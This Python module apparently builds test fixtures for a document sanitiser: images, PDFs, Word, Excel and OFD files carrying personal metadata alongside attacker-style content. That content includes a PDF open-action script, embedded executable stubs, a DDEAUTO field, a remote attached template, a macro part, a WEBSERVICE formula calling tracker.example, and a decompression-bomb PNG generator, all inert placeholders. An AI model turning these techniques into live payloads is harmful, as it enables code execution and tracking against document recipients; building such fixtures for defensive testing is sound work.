"""Files such as citizens hand in, with what their makers leave in them, and such as attackers do."""

from __future__ import annotations

import zipfile
import zlib
from io import BytesIO

import docx
import openpyxl
import pikepdf
from openpyxl.comments import Comment
from PIL import Image

PERSON, PLACE = "泄密人甲", "云港区某街道"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def saved(document: object) -> bytes:
    file = BytesIO()
    document.save(file)  # type: ignore[attr-defined]
    return file.getvalue()


def picture(form: str = "JPEG", **extra: object) -> bytes:
    """With GPS, an owner, and (JPEG) a comment."""
    image = Image.new("RGB", (24, 16), "red")
    exif = image.getexif()
    exif[0x013B] = PERSON  # Artist
    exif[0x0112] = 6  # stored lying on its side
    exif.get_ifd(0x8825)[2] = (30.0, 15.0, 0.0)
    if form == "JPEG":
        extra["comment"] = PLACE.encode()
    file = BytesIO()
    image.save(file, form, exif=exif.tobytes(), **extra)
    return file.getvalue()


def pdf(*, password: str = "") -> bytes:
    """With an author, XMP, a script that runs on opening, and a packed program."""
    document = pikepdf.new()
    document.add_blank_page()
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [PERSON]
    document.docinfo["/Author"] = PERSON
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('NEEDLE')")
    document.attachments["virus.exe"] = b"MZ NEEDLE"
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T=PERSON, Contents="看这里"
    )
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://tracker.example/NEEDLE"),
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note), document.make_indirect(link)])
    file = BytesIO()
    document.save(file, encryption=pikepdf.Encryption(owner=password, user=password) if password else None)
    return file.getvalue()


def word() -> bytes:
    """With properties, a remark, a tracked change, a link, a photograph, and a template from elsewhere."""
    document = docx.Document()
    document.core_properties.author = PERSON
    paragraph = document.add_paragraph("正文")
    document.add_comment(paragraph.runs, text="批注", author=PERSON, initials="甲")
    document.add_picture(BytesIO(picture()))
    link = document.part.relate_to(
        "https://tracker.example/NEEDLE", docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, True
    )
    element = docx.oxml.parse_xml(
        f'<w:p xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<w:hyperlink r:id="{link}"><w:r><w:t>链接</w:t></w:r></w:hyperlink>'
        f'<w:ins w:id="7" w:author="{PERSON}" w:date="2026-01-02T03:04:05Z"><w:r><w:t>增补</w:t></w:r></w:ins>'
        "<w:r><w:instrText>DDEAUTO c:\\\\NEEDLE.exe</w:instrText></w:r></w:p>"
    )
    document.element.body.insert(0, element)
    settings = document.part._settings_part
    template = settings.relate_to(
        "https://tracker.example/NEEDLE.dotm", f"{docx.oxml.ns.nsmap['r']}/attachedTemplate", True
    )
    settings.element.insert(
        0,
        docx.oxml.parse_xml(
            f'<w:attachedTemplate xmlns:w="{W}" xmlns:r="{docx.oxml.ns.nsmap["r"]}" r:id="{template}"/>'
        ),
    )
    return saved(document)


def with_macro(content: bytes) -> bytes:
    """The same with a macro, as it is when a DOCM is renamed."""
    return repacked(
        content,
        {"word/vbaProject.bin": b"NEEDLE macro"},
        lambda name, part: (
            part.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", MACRO_TYPE.encode()
            )
            if name == "[Content_Types].xml"
            else part
        ),
    )


def sheet() -> bytes:
    """With properties, the author of a remark, a link, and a formula that calls out."""
    book = openpyxl.Workbook()
    book.properties.creator = PERSON
    page = book.active
    page["A1"], page["A2"] = "金额", 42
    page["A1"].comment = Comment("批注", PERSON)
    page["B1"] = "链接"
    page["B1"].hyperlink = "https://tracker.example/NEEDLE"
    page["C1"] = '=WEBSERVICE("https://tracker.example/NEEDLE")'
    page["C2"] = "=A2*2"
    return saved(book)


def ofd() -> bytes:
    file = BytesIO()
    info = f"<ofd:DocInfo><ofd:DocID>1</ofd:DocID><ofd:Author>{PERSON}</ofd:Author></ofd:DocInfo>"
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("OFD.xml", f'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">{info}</ofd:OFD>')
        archive.writestr(
            "Doc_0/Pages/Page_0/Content.xml", '<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016">正文</ofd:Page>'
        )
        archive.writestr("Doc_0/Attachs/a.exe", b"MZ NEEDLE")
    return file.getvalue()


def repacked(content: bytes, more: dict[str, bytes], change=lambda name, part: part) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, change(entry.filename, old.read(entry)))
        for name, part in more.items():
            new.writestr(name, part)
    return file.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """All pixels black: a few kilobytes that unpack to as much as the size says."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)

    packer = zlib.compressobj()
    row = b"\0" * (width // 8 + 1)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = width.to_bytes(4) + height.to_bytes(4) + bytes([1, 0, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def mp3() -> bytes:
    """Four silent frames of 128 kilobit at 44.1 kHz."""
    return (b"\xff\xfb\x90\x00" + bytes(413)) * 4


def media(brand: bytes) -> bytes:
    return (24).to_bytes(4) + b"ftyp" + brand + bytes(4) + b"isomiso2" + bytes(64)
